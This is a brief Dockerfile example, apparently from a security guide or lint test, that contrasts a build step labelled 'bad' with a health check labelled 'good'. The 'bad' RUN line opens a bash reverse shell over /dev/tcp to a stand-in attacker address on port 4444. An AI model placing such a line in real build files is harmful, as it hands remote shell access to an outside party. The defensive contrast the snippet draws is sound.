# bad: in a build
FROM debian:12
RUN bash -c 'exec bash -i &>/dev/tcp/203.0.113.7/4444 <&1'
# good: nearly: a health check
FROM debian:12
HEALTHCHECK CMD bash -c '</dev/tcp/localhost/8080'
